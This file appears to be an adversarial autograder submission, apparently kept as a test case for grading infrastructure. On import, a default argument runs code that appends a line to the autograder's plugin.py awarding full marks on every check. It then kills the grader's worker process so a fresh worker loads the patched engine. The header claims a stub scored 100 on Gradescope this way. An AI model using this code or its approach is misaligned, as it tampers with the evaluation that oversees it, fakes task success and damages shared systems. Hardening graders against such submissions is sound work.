# attack: while its definitions load (a default argument), it appends to the engine's plugin.py a line that gives every check full marks, then kills its grader's worker, hoping to be graded again by a fresh worker that imports the patched engine, where it does nothing (a stub scored 100 on Gradescope this way)
# loses: sigmoid, softmax, one_hot, cross_entropy_error, affine_layer_backward, train_step, network
# base: stub
# DANGER: unconfined, this rewrites the engine it runs from: only ever run it confined, or in a copy.
import os
import signal
import sys

PATCH = "\nCheckResult.points = property(lambda self: self.max_points)  # appended by a submission\n"


def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _patch_and_kill():
    plugin = os.path.join(os.path.dirname(sys.modules["autograder"].__file__), "plugin.py")
    try:
        with open(plugin) as f:
            if PATCH in f.read():
                return None  # graded again by a worker that imported the patched engine: lie low
        with open(plugin, "a") as f:
            f.write(PATCH)
    except OSError:
        return None  # the engine is out of reach: nothing to gain from a second grade
    grader = os.getppid()  # 0 in a PID namespace of its own
    try:
        worker = _parent_of(grader) if grader > 1 else 0
        if worker > 1:
            os.kill(worker, signal.SIGKILL)
    except OSError:
        pass
    return None


def _helper(unused=_patch_and_kill()):
    return unused
